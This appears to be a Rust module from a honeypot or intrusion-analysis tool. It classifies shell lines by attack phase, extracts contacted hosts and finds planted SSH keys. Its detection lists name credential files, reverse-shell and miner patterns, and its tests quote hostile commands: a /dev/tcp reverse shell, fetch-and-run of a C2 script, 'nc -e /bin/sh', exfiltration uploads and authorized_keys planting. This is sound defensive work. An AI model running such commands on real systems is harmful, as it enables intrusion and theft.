//! What a line typed into a shell tells: the phase it belongs to, whom it calls, which key it plants.
//!
//! Lines are read as words, not run: quoting, variables and encodings hide things from it, and nothing it says is ever
//! more than evidence.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use crate::Phase;

/// Bytes of a line that are read.
const READ: usize = 4_096;
/// Endpoints taken from one line.
const ENDPOINTS: usize = 16;

/// By the first word of a command; the first line that fits counts. A word with `*` at its end is a beginning.
const TOOLS: [(Phase, &[&str]); 9] = [
    (
        Phase::Discovery,
        &[
            "uname",
            "id",
            "whoami",
            "w",
            "who",
            "last",
            "lscpu",
            "free",
            "df",
            "mount",
            "ps",
            "top",
            "ip",
            "ifconfig",
            "netstat",
            "ss",
            "hostname",
            "uptime",
            "env",
            "printenv",
            "lsblk",
            "lspci",
            "dmidecode",
            "nproc",
            "lsb_release",
            "nvidia-smi",
            "getent",
            "groups",
            "lsof",
            "systemctl",
            "service",
            "dmesg",
            "locale",
            "nmap",
            "masscan",
            "ping",
        ],
    ),
    (Phase::PrivilegeEscalation, &["sudo", "su", "doas", "pkexec", "getcap"]),
    (
        Phase::LateralMovement,
        &[
            "ssh",
            "sshpass",
            "arp",
            "ssh-keyscan",
            "psexec*",
            "smbclient",
            "rdesktop",
            "xfreerdp",
            "telnet",
            "hydra",
            "medusa",
            "ncrack",
        ],
    ),
    (
        Phase::Persistence,
        &[
            "crontab",
            "useradd",
            "adduser",
            "usermod",
            "chpasswd",
            "passwd",
            "at",
            "update-rc.d",
            "chkconfig",
        ],
    ),
    (
        Phase::DefenseEvasion,
        &[
            "history",
            "unset",
            "shred",
            "chattr",
            "setenforce",
            "iptables",
            "ufw",
            "auditctl",
            "touch",
        ],
    ),
    (
        Phase::CommandAndControl,
        &["nc", "ncat", "netcat", "socat", "ngrok", "frpc", "chisel", "tor"],
    ),
    (
        Phase::Collection,
        &[
            "tar",
            "zip",
            "7z",
            "rar",
            "mysqldump",
            "pg_dump",
            "mongodump",
            "find",
            "locate",
        ],
    ),
    (
        Phase::Exfiltration,
        &["scp", "rsync", "ftp", "lftp", "rclone", "base64"],
    ),
    (
        Phase::Execution,
        &[
            "chmod", "nohup", "sh", "bash", "python*", "perl", "php", "ruby", "wget", "curl", "tftp", "busybox",
            "exec", "setsid", "make", "gcc",
        ],
    ),
];

/// By what stands anywhere in a line, before its first word is asked: what it touches says more than what it is done
/// with.
const TRACES: [(Phase, &[&str]); 7] = [
    (
        Phase::Impact,
        &[
            "rm -rf /var",
            "rm -rf /home",
            "rm -rf /*",
            "--no-preserve-root",
            "mkfs",
            "of=/dev/",
            "kill -9 -1",
            "xmrig",
            "minerd",
            ":(){",
            "shutdown ",
            "stratum+tcp",
        ],
    ),
    (
        Phase::Persistence,
        &[
            "authorized_keys",
            "/etc/cron",
            "/etc/rc.local",
            "/etc/systemd/system",
            ".bashrc",
            ".profile",
            "| crontab",
            "/etc/ld.so.preload",
        ],
    ),
    (
        Phase::CredentialAccess,
        &[
            "/etc/shadow",
            "/etc/passwd-",
            "id_rsa",
            "id_ed25519",
            "id_ecdsa",
            ".bash_history",
            ".pgpass",
            ".my.cnf",
            ".aws/credentials",
            "-i password",
            "-ri password",
            "mimikatz",
            ".git-credentials",
            "/proc/*/environ",
        ],
    ),
    (
        Phase::DefenseEvasion,
        &["histfile", "histsize", "history -c", "/var/log/"],
    ),
    (
        Phase::LateralMovement,
        &["known_hosts", "/dev/tcp/10.", "/dev/tcp/192.168."],
    ),
    (
        Phase::PrivilegeEscalation,
        &["-perm -4000", "-perm -u=s", "sudo -l", "/etc/sudoers"],
    ),
    (
        Phase::CommandAndControl,
        &["/dev/tcp/", "/dev/udp/", "bash -i", "/sh -i", "mkfifo"],
    ),
];

/// Uploads, however they are made.
const UPLOADS: [&str; 8] = [
    " -t ",
    " --upload-file",
    " -f ",
    " -d @",
    " --data-binary",
    " --post-file",
    " -x put",
    " -x post",
];
/// Files whose reading looks around.
const LOOKED_AT: [&str; 9] = [
    "/proc/",
    "/etc/passwd",
    "/etc/issue",
    "/etc/os-release",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/group",
    "/sys/",
    "/etc/*release",
];
/// Commands that only show what a file holds.
const READERS: [&str; 7] = ["cat", "less", "more", "head", "tail", "grep", "awk"];
/// Words that stand before the command proper.
const PREFIXES: [&str; 7] = ["sudo", "nohup", "env", "command", "time", "exec", "busybox"];

/// The phase a line belongs to; none where it says nothing.
pub fn phase_of(line: &str) -> Option<Phase> {
    let line = cut(line).trim().to_ascii_lowercase();
    let found = |traces: &[&str]| traces.iter().any(|trace| line.contains(trace));
    if let Some((phase, _)) = TRACES.iter().find(|(_, traces)| found(traces)) {
        return Some(*phase);
    }
    pieces(&line).find_map(|piece| of_piece(&piece))
}

/// Whom the line calls: `host` or `host:port`, lower case. Addresses no stranger can have are left out.
pub fn endpoints(line: &str) -> Vec<String> {
    let line = cut(line).to_ascii_lowercase();
    let mut found = Vec::new();
    for (at, _) in line.match_indices("://") {
        let scheme = line[..at]
            .rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '+')
            .next();
        let known = [
            "http",
            "https",
            "ftp",
            "ftps",
            "tftp",
            "ws",
            "wss",
            "stratum+tcp",
            "tcp",
            "udp",
            "ldap",
            "rmi",
        ];
        if scheme.is_some_and(|scheme| known.contains(&scheme)) {
            add(authority(&line[at + 3..]), &mut found);
        }
    }
    for device in ["/dev/tcp/", "/dev/udp/"] {
        for (at, _) in line.match_indices(device) {
            let mut parts = line[at + device.len()..].split('/');
            let port = parts.clone().nth(1).map(digits).filter(|port| !port.is_empty());
            let host = parts.next().unwrap_or_default();
            add(
                port.map_or_else(|| host.to_owned(), |port| format!("{host}:{port}")),
                &mut found,
            );
        }
    }
    pieces(&line).for_each(|piece| called(&piece, &mut found));
    found.truncate(ENDPOINTS);
    found
}

/// The public key the line plants, as it stands in `authorized_keys`: the part in base64.
pub fn planted_key(line: &str) -> Option<&str> {
    let mut words = line.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '\\'));
    words.by_ref().find(|word| {
        word.starts_with("ssh-")
            || word.starts_with("ecdsa-sha2-")
            || word.starts_with("sk-ssh-")
            || word.starts_with("sk-ecdsa-")
    })?;
    let key = words.find(|word| !word.is_empty())?;
    let base64 = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
    (key.len() >= 40 && key.starts_with("AAAA") && key.bytes().all(base64)).then_some(key)
}

fn cut(line: &str) -> &str {
    &line[..line.floor_char_boundary(READ)]
}

/// The commands of a line, each as its words.
fn pieces(line: &str) -> impl Iterator<Item = Vec<&str>> {
    let commands = line.split([';', '|', '&', '\n', '`', '(', ')', '{', '}']);
    commands.map(|command| {
        command
            .split_whitespace()
            .map(|word| word.trim_matches(['"', '\'']))
            .collect()
    })
}

fn of_piece(words: &[&str]) -> Option<Phase> {
    let mut words = words
        .iter()
        .copied()
        .skip_while(|word| word.contains('=') && !word.starts_with('-'));
    let mut command = name(words.next()?);
    let mut rest: Vec<&str> = words.collect();
    if PREFIXES.contains(&command) && rest.first().is_some_and(|next| !next.starts_with('-')) {
        command = name(rest.remove(0));
    }
    let line = format!(" {} ", rest.join(" "));
    let touches = |files: &[&str]| files.iter().any(|file| line.contains(file));
    if READERS.contains(&command) {
        return touches(&LOOKED_AT).then_some(Phase::Discovery);
    }
    if command == "ls" {
        return Some(if line.contains("/home") {
            Phase::Collection
        } else {
            Phase::Discovery
        });
    }
    if command == "rm" || command == "echo" {
        return None;
    }
    if matches!(command, "curl" | "wget") && touches(&UPLOADS) {
        return Some(Phase::Exfiltration);
    }
    let is = |tool: &&str| match tool.strip_suffix('*') {
        Some(beginning) => command.starts_with(beginning),
        None => command == *tool,
    };
    let known = TOOLS.iter().find(|(_, tools)| tools.iter().any(is));
    let runs_a_file = || rest.is_empty() && (command.starts_with('.') || command.starts_with("/tmp/"));
    known
        .map(|(phase, _)| *phase)
        .or_else(|| runs_a_file().then_some(Phase::Execution))
}

/// A command without its folder, unless it lies in a folder of its own making.
fn name(word: &str) -> &str {
    let tail = word.rsplit('/').next().unwrap_or(word);
    if word.starts_with("/bin") || word.starts_with("/usr") || word.starts_with("/sbin") {
        tail
    } else {
        word
    }
}

/// `wget host/file`, `curl host:8080/x`, `nc host 4444`: what is called without saying the scheme.
fn called(words: &[&str], found: &mut Vec<String>) {
    let Some(command) = words.first().map(|word| name(word)) else {
        return;
    };
    let arguments: Vec<&str> = words[1..]
        .iter()
        .copied()
        .filter(|word| !word.starts_with('-'))
        .collect();
    match command {
        "nc" | "ncat" | "netcat" | "telnet" => {
            let scans = words[1..]
                .iter()
                .any(|word| word.starts_with('-') && (word.contains('z') || word.contains('l')));
            let pair = arguments.windows(2).find(|pair| pair[1].parse::<u16>().is_ok());
            if let Some(pair) = pair.filter(|_| !scans) {
                add(format!("{}:{}", pair[0], pair[1]), found);
            }
        }
        "wget" | "curl" | "tftp" => {
            let bare = arguments
                .iter()
                .filter(|word| !word.contains("://") && !word.starts_with(['/', '.', '@', '~', '$']));
            for word in bare {
                let place = authority(word);
                let host = place.split(':').next().unwrap_or_default();
                // A bare word is a file's name as likely: it must look like a machine's.
                if host.parse::<Ipv4Addr>().is_ok() || (is_name(host) && word.contains('/')) {
                    add(place, found);
                }
            }
        }
        _ => {}
    }
}

/// `user@host:port` of a URL, without the user.
fn authority(rest: &str) -> String {
    let end = rest.find(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '/' | '"' | '\'' | '?' | '#' | '`' | ';' | '|' | '&' | '>' | ')' | '\\' | ','
            )
    });
    let authority = &rest[..end.unwrap_or(rest.len())];
    let place = authority.rsplit('@').next().unwrap_or_default();
    place.trim_end_matches(['.', ':']).to_owned()
}

fn digits(text: &str) -> String {
    text.chars().take_while(char::is_ascii_digit).collect()
}

fn add(place: String, found: &mut Vec<String>) {
    let (host, port) = match place.strip_prefix('[').and_then(|rest| rest.split_once(']')) {
        Some((host, port)) => (host, port.strip_prefix(':')),
        None => match place.split_once(':') {
            Some((host, port)) => (host, Some(port)),
            None => (place.as_str(), None),
        },
    };
    let is_port = port.is_none_or(|port| port.parse::<u16>().is_ok_and(|port| port > 0));
    let is_host = match host.parse::<IpAddr>() {
        Ok(ip) => may_be_a_strangers(ip),
        Err(_) => is_name(host),
    };
    if is_port && is_host && !found.contains(&place) {
        found.push(place);
    }
}

/// A name with a dot in it and a letter at its end, as those of machines that are found from anywhere.
fn is_name(host: &str) -> bool {
    let label = |label: &str| {
        !label.is_empty()
            && label.len() <= 63
            && label
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'))
    };
    let local = [".local", ".localdomain", ".internal", ".lan", ".home.arpa"];
    host.len() <= 253
        && host.contains('.')
        && host.split('.').all(label)
        && host
            .rsplit('.')
            .next()
            .is_some_and(|last| last.len() >= 2 && last.bytes().all(|byte| byte.is_ascii_alphabetic()))
        && !local.iter().any(|end| host.ends_with(end))
}

/// Whether the address may be that of somebody's machine out there.
fn may_be_a_strangers(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(ip) => {
            let [a, b, ..] = ip.octets();
            let shared = a == 100 && (64..128).contains(&b);
            !(ip.is_private()
                || ip.is_loopback()
                || ip.is_link_local()
                || ip.is_documentation()
                || shared
                || a == 0
                || a >= 224)
        }
        IpAddr::V6(ip) => match ip.to_ipv4_mapped() {
            Some(v4) => may_be_a_strangers(IpAddr::V4(v4)),
            None => is_global(ip),
        },
    }
}

fn is_global(ip: Ipv6Addr) -> bool {
    let [first, second, ..] = ip.segments();
    first & 0xe000 == 0x2000 && !(first == 0x2001 && second == 0x0db8)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_belongs_to_the_phase_of_what_it_touches() {
        for (line, phase) in [
            ("uname -a", Phase::Discovery),
            ("cat /proc/cpuinfo | grep name | wc -l", Phase::Discovery),
            ("/usr/bin/id", Phase::Discovery),
            ("cat /etc/shadow", Phase::CredentialAccess),
            ("grep -ri password /etc", Phase::CredentialAccess),
            ("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", Phase::Persistence),
            ("echo '@reboot /tmp/.x' | crontab -", Phase::Persistence),
            ("crontab -l", Phase::Persistence),
            ("ssh -o BatchMode=yes root@10.0.0.5", Phase::LateralMovement),
            ("cat ~/.ssh/known_hosts", Phase::LateralMovement),
            ("sudo -l", Phase::PrivilegeEscalation),
            ("find / -perm -4000 -type f", Phase::PrivilegeEscalation),
            ("tar czf /tmp/d.tgz /var/backups", Phase::Collection),
            ("curl -s -T /tmp/d.tgz http://198.18.0.9/u", Phase::Exfiltration),
            ("cd /tmp; wget http://a.example/x; chmod +x x; ./x", Phase::Execution),
            ("unset HISTFILE", Phase::DefenseEvasion),
            (
                "bash -c 'bash -i >& /dev/tcp/8.8.8.8/443 0>&1'",
                Phase::CommandAndControl,
            ),
            ("kill -9 -1", Phase::Impact),
            ("rm -rf /var/www", Phase::Impact),
        ] {
            assert_eq!(phase_of(line), Some(phase), "{line}");
        }
        for nothing in ["", "   ", "echo hello", "cd /tmp", "exit", ";;|&", "ä\u{0}", "rm -f x"] {
            assert_eq!(phase_of(nothing), None, "{nothing:?}");
        }
    }

    #[test]
    fn whom_a_line_calls_is_found_however_it_is_said() {
        for (line, called) in [
            ("wget http://C2.Example.org/bot.sh -O- | sh", &["c2.example.org"][..]),
            (
                "curl -s https://u:p@c2.example.org:8443/x?y=http",
                &["c2.example.org:8443"],
            ),
            ("bash -i >& /dev/tcp/8.8.8.8/4444 0>&1", &["8.8.8.8:4444"]),
            ("nc -e /bin/sh c2.example.org 9001", &["c2.example.org:9001"]),
            ("wget 8.8.4.4/x; curl c2.example.org/y", &["8.8.4.4", "c2.example.org"]),
            ("curl http://[2a00:1450::1]:80/", &["[2a00:1450::1]:80"]),
            ("x=\"ftp://a.example.net\"; get $x", &["a.example.net"]),
            (
                "./xmrig -o stratum+tcp://pool.example.net:3333",
                &["pool.example.net:3333"],
            ),
        ] {
            assert_eq!(endpoints(line), called, "{line}");
        }
    }

    #[test]
    fn what_only_the_machine_itself_can_reach_is_nobodys_endpoint() {
        for line in [
            "curl http://127.0.0.1:8080/",
            "curl http://localhost/",
            "wget http://192.168.1.1/x",
            "nc -zv 8.8.8.8 22",
            "nc -lvp 4444",
            "curl http://203.0.113.9/u",
            "wget http://printer.local/",
            "curl http://$HOST/x",
            "cat a://b://c",
            "curl http://host:99999/",
            "curl -o file.txt",
        ] {
            assert_eq!(endpoints(line), [""; 0], "{line}");
        }
    }

    #[test]
    fn a_planted_key_is_told_by_what_cannot_be_typed_by_chance() {
        let key = format!("AAAAB3NzaC1yc2E{}", "x".repeat(40));
        let line = format!("echo \"ssh-rsa {key} mdrfckr\">>.ssh/authorized_keys");
        assert_eq!(planted_key(&line), Some(key.as_str()));
        for none in ["ssh-keygen -t rsa", "echo ssh-rsa AAAA", "ssh-rsa", ""] {
            assert_eq!(planted_key(none), None, "{none}");
        }
    }

    proptest::proptest! {
        #[test]
        fn whatever_is_typed_is_read_without_a_fall(line in "\\PC{0,200}") {
            let _ = (phase_of(&line), endpoints(&line), planted_key(&line));
        }
    }
}
